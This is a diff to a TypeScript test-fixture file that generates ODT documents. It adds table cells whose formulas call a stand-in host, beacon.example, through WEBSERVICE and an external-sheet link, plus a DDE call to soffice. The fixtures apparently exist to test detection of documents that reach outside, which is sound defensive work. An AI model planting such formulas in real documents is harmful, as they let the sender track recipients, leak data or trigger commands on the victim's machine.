@@ -172,6 +172,18 @@ const p = (inside: string) => `<text:p>Kept ${inside}</text:p>`
 
 /** ODTs that hold a word deeper. */
 export const deepOdt = (who: string): Kind[] => [
+  ...[
+    `of:=WEBSERVICE(&quot;https://beacon.example/${who}&quot;)`,
+    `of:=[&apos;https://beacon.example/${who}.ods&apos;#$S.A1]`,
+    `of:=DDE(&quot;soffice&quot;;&quot;${who}&quot;;&quot;A1&quot;)`,
+  ].map(
+    (formula): Kind => [
+      `a formula that asks elsewhere: ${formula}`,
+      anOdt({
+        body: `<table:table><table:table-column/><table:table-row><table:table-cell table:formula="${formula}"><text:p>1</text:p></table:table-cell></table:table-row></table:table>`,
+      }),
+    ],
+  ),
   [
     'value of a user’s field',
     anOdt({
